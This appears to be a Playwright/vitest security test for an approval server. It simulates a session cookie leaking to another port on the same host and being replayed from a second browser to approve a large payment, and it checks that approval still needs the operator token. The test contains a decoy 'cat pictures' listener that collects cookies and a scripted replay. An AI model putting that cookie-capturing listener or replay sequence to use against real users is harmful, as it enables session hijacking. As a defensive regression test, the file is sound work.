import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium, type Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { canonicalHash } from '../../src/runtime/canonical.js';
import { CHROMIUM, requireChromium, SKIP_BROWSER } from '../helpers/chromium.js';
import { pendingRequest, type ServeFixture, startFixture } from './helpers.js';

/**
 * Issue 37 item 3, the replay in a real browser: an operator signed in to serve follows a link to a
 * page on another port of the same host; the browser sends that page serve's session cookie (a
 * host's cookies go to every port); the attacker sets it in another browser and opens serve. It
 * reads the inbox (said in docs/serve.md), but approves nothing: every answer asks for the
 * operator's token again, which the cookie does not carry. The operator's own answer, with it, is
 * recorded.
 */
const BIG = { amount: 999_000, payment_id: 'pay_stolen' };

describe.skipIf(SKIP_BROWSER)('a session cookie replayed from another port (headless chromium)', { timeout: 120_000 }, () => {
  let fx: ServeFixture;
  let browser: Browser;
  let attacker: Server;
  const stolen: string[] = [];

  beforeAll(async () => {
    requireChromium();
    fx = await startFixture({ bob: ['payments-approver'] });
    await fx.store.putRequest(pendingRequest('call_big', { args: JSON.stringify(BIG), argsHash: canonicalHash(BIG) }));
    // the attacker's listener: another loopback port, which receives whatever cookies the browser sends it
    attacker = createServer((req, res) => {
      if (req.headers.cookie) stolen.push(req.headers.cookie);
      res.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>cat pictures</title><p>nice cats</p>');
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: ['--no-sandbox', '--disable-gpu', '--no-first-run'] });
  });
  afterAll(async () => {
    await browser?.close();
    await new Promise((resolve) => attacker?.close(resolve));
    await fx?.close();
  });

  it('the cookie reaches the other port and reads the inbox there, but approves nothing; the operator approves with the token', async () => {
    const operator = await browser.newContext();
    const page = await operator.newPage();
    await page.goto(`${fx.serve.url}/login`);
    await page.fill('input[name=token]', fx.tokens.bob!);
    await page.click('button[type=submit]');
    await page.waitForURL(`${fx.serve.url}/`);
    // a link in the inbox's world (a chat message, a mail) to the other port
    const elsewhere = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}/cats`;
    await page.goto(elsewhere);
    const name = `crg_session_${new URL(fx.serve.url).port}`;
    const cookie = stolen.flatMap((c) => c.split(/;\s*/)).find((c) => c.startsWith(`${name}=`));
    expect(cookie, "the browser sent serve's cookie to the other port").toBeDefined();

    // the attacker's own browser, with the stolen cookie
    const thief = await browser.newContext();
    await thief.addCookies([{ name, value: cookie!.slice(name.length + 1), domain: '127.0.0.1', path: '/', httpOnly: true, sameSite: 'Strict' }]);
    const replay = await thief.newPage();
    await replay.goto(`${fx.serve.url}/requests/call_big`);
    expect(new URL(replay.url()).pathname).toBe('/requests/call_big'); // signed in as bob: it reads
    await replay.fill('textarea[name=reason]', 'looks fine');
    await replay.getByRole('button', { name: /Approve as bob/ }).click({ noWaitAfter: false });
    // the token field is required: the form does not even submit without it; then a made-up one
    expect((await fx.store.getRequest('call_big'))!.answers).toEqual([]);
    await replay.fill('form.answer input[name=token]', 'crg_op_guess');
    await replay.getByRole('button', { name: /Approve as bob/ }).click();
    await expect(replay.getByTestId('message').textContent()).resolves.toContain('type your operator token');
    // and straight from a script, with the page's CSRF token and the cookie, no token
    const csrf = await replay.locator('form.answer input[name=csrf]').getAttribute('value');
    const posted = await replay.request.post(`${fx.serve.url}/requests/call_big/answer`, { form: { csrf: csrf!, decision: 'approve' } });
    expect(posted.status()).toBe(401);
    expect((await fx.store.getRequest('call_big'))!).toMatchObject({ state: 'pending', answers: [] });
    const refused = (await fx.store.listReceipts()).filter((r) => r.result === 'approved');
    expect(refused).toEqual([]);

    // the operator, who has the token, approves
    await page.goto(`${fx.serve.url}/requests/call_big`);
    await page.fill('form.answer input[name=token]', fx.tokens.bob!);
    await page.getByRole('button', { name: /Approve as bob/ }).click();
    await expect(page.getByTestId('message').textContent()).resolves.toContain('Approved as bob (1 of 1)');
    expect((await fx.store.getRequest('call_big'))!.state).toBe('approved');
    await thief.close();
    await operator.close();
  });
});
